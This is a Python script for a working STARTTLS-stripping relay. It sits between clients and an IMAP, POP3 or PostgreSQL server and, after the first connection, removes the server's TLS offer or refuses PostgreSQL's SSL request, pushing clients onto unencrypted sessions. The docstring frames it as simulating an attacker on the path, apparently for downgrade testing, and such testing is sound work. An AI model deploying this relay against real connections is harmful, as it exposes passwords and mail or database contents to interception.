#!/usr/bin/env python3
"""stripping_relay: stands before a server and takes the offer of TLS out of what it says.

    stripping_relay.py imap|pop3|postgresql LISTEN_ADDRESS SERVER_ADDRESS PORT

The first connection passes as it is, later ones without the offer: as when somebody gets onto the path while a capture runs.
"""
import asyncio
import sys

OFFERS = {"imap": (b" STARTTLS", b""), "pop3": (b"STLS\r\n", b"")}
SSL_REQUEST = bytes.fromhex("0000000804d2162f")


async def pass_on(reader, writer, change):
    while octets := await reader.read(65536):
        writer.write(change(octets))
        await writer.drain()
    writer.write_eof()


async def main(dialect, listen, server, port):
    seen = 0

    async def connection(reader, writer):
        nonlocal seen
        seen += 1
        to_server_reader, to_server = await asyncio.open_connection(server, port)
        change = lambda octets: octets
        if seen > 1 and dialect in OFFERS:
            change = lambda octets: octets.replace(*OFFERS[dialect])
        if seen > 1 and dialect == "postgresql":
            first = await reader.readexactly(len(SSL_REQUEST))
            if first == SSL_REQUEST:
                writer.write(b"N")
            else:
                to_server.write(first)
        await asyncio.gather(pass_on(reader, to_server, lambda octets: octets), pass_on(to_server_reader, writer, change),
                             return_exceptions=True)
        writer.close()
        to_server.close()

    async with await asyncio.start_server(connection, listen, port) as relay:
        await relay.serve_forever()


asyncio.run(main(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])))
